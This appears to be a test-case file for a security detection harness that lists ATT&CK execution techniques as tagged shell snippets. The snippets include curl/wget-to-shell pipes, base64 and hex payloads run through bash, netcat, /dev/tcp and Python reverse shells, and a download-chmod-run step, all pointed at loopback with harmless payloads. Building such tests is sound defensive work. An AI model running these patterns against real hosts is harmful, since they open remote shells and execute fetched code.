# Execution (TA0002), mostly through pipelines.

#@ id=exec-curl-pipe-sh kind=attack tactic=execution technique=T1059.004 signal=pipe title=Script downloaded with curl from loopback HTTP and piped into sh
mkdir www; echo 'echo pwned > /dev/null' > www/x.sh; serve_http www
curl -s http://127.0.0.1:$EVAL_PORT/x.sh | sh

#@ id=exec-wget-pipe-bash kind=attack tactic=execution technique=T1059.004 signal=pipe title=Script downloaded with wget and piped into bash
mkdir www; echo 'id >/dev/null' > www/i.sh; serve_http www
wget -qO- http://127.0.0.1:$EVAL_PORT/i.sh | bash

#@ id=exec-curl-file-sh kind=attack tactic=execution technique=T1059.004 signal=pipe title=curl file:// piped into sh (no network)
echo 'true' > p.sh; curl -s file://$PWD/p.sh | sh

#@ id=exec-base64-bash kind=attack tactic=execution technique=T1059.004 signal=pipe title=base64 payload decoded and piped into bash
echo 'aWQgPiAvZGV2L251bGwK' | base64 -d | bash

#@ id=exec-xxd-sh kind=attack tactic=execution technique=T1140 signal=pipe title=Hex payload decoded with xxd and piped into sh
echo 6964203e2f6465762f6e756c6c0a | xxd -r -p | sh

#@ id=exec-curl-python kind=attack tactic=execution technique=T1059.006 signal=pipe title=Python payload downloaded and piped into python3
mkdir www; echo 'import os; os.getuid()' > www/p.py; serve_http www
curl -s http://127.0.0.1:$EVAL_PORT/p.py | python3

#@ id=exec-bash-c-base64 kind=attack tactic=execution technique=T1027 signal=exec title=Inline base64 decode inside bash -c
bash -c 'eval "$(echo aWQgPi9kZXYvbnVsbAo= | base64 -d)"'

#@ id=exec-reverse-shell-fifo kind=attack tactic=execution technique=T1059.004 signal=pipe title=Netcat reverse shell through a named pipe (loopback)
ln -s /bin/busybox nc; listen_tcp "$EVAL_PORT"
mkfifo f; timeout 2 sh -i < f 2>&1 | timeout 2 ./nc 127.0.0.1 $EVAL_PORT > f; true

#@ id=exec-reverse-shell-devtcp kind=attack tactic=execution technique=T1059.004 signal=network title=bash reverse shell over /dev/tcp (loopback)
listen_tcp "$EVAL_PORT"
timeout 2 bash -c "bash -i >& /dev/tcp/127.0.0.1/$EVAL_PORT 0>&1" 2>/dev/null; true

#@ id=exec-python-reverse-shell kind=attack tactic=execution technique=T1059.006 signal=network title=Python socket reverse shell one-liner (loopback)
listen_tcp "$EVAL_PORT"
timeout 2 python3 -c "import socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',$EVAL_PORT));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])" 2>/dev/null; true

#@ id=exec-drop-chmod-run kind=attack tactic=execution technique=T1105 signal=file title=Tool downloaded to /tmp, made executable and run
mkdir www; cp /bin/true www/agent; serve_http www
f=/tmp/.x$$; at_exit "rm -f $f"; curl -s -o $f http://127.0.0.1:$EVAL_PORT/agent; chmod +x $f; $f

#@ id=exec-perl-inline kind=attack tactic=execution technique=T1059 signal=exec title=Perl one-liner spawning a shell
perl -e 'system("/bin/sh", "-c", "id >/dev/null")'
